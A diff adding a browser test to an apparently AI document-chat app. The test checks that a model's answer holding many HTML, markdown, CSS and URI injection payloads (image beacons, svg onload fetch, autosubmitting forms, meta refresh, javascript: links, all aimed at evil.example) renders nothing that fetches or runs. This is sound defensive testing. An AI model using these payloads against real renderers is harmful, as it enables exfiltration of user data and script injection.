@@ -57,6 +57,45 @@ def test_a_written_answer_bears_footnotes_and_marks_and_opens_at_its_source(
     assert page.locator("#pane .quoted").inner_text() == QUOTE
 
 
+SHAPES = """
+![a](http://evil.example/a.png) [b](http://evil.example/b) [c]: http://evil.example/c
+<http://evil.example/d> http://evil.example/e www.evil.example/f
+<img src=http://evil.example/g> <img srcset="http://evil.example/h 2x"> <a href="http://evil.example/i">i</a>
+<link rel=stylesheet href=http://evil.example/j> <link rel=prefetch href=http://evil.example/k>
+<style>@import url(http://evil.example/l); body { background: url(http://evil.example/m) }</style>
+<div style="background: url(http://evil.example/n)">n</div> <svg><image href="http://evil.example/o"/></svg>
+<svg onload="fetch('http://evil.example/p')"></svg> <script src=http://evil.example/q></script>
+<iframe src=http://evil.example/r></iframe> <object data=http://evil.example/s></object>
+<embed src=http://evil.example/t> <video src=http://evil.example/u autoplay></video> <audio src=http://evil.example/v>
+<form action=http://evil.example/w><button autofocus onfocus=this.form.submit()>w</button></form>
+<meta http-equiv=refresh content="0;url=http://evil.example/x"> <base href=http://evil.example/y>
+<input type=image src=http://evil.example/z> <table background=http://evil.example/0><tr><td>0</table>
+![1](data:image/svg+xml,<svg onload=alert(1)>) [2](javascript:alert(2)) <a href="javascript:alert(3)">3</a>
+```mermaid
+graph TD; A-->B; click A "http://evil.example/4"
+```
+$\\href{http://evil.example/5}{5}$ http://xn--evl-hma.example/6 &lt;img src=http://evil.example/7&gt;
+"""
+
+
+def test_nothing_that_a_model_writes_fetches_or_runs_anything(
+    visit: Any, model: Server, warranty: Path
+) -> None:
+    model.act = says(TOLD[0], TOLD[1], SHAPES)
+    page = visit("/documents")
+    upload(page, warranty)
+    turn = asked(page)
+    assert "http://evil.example/a.png" in turn.locator(".answer").inner_text()
+    own = "#turns :is(img, link, style, svg, script, iframe, object, embed, video, audio, form, meta, base, input, table)"
+    assert page.locator(own).count() == 0
+    links = page.locator("#turns a").evaluate_all("all => all.map(each => each.getAttribute('href'))")
+    assert links
+    assert all(link.startswith("/source/") for link in links)
+    page.reload()
+    page.wait_for_load_state("networkidle")
+    assert page.locator(own).count() == 0
+
+
 def test_where_the_model_is_down_the_answer_comes_in_quotes_and_says_so(
     visit: Any, model: Server, warranty: Path
 ) -> None:
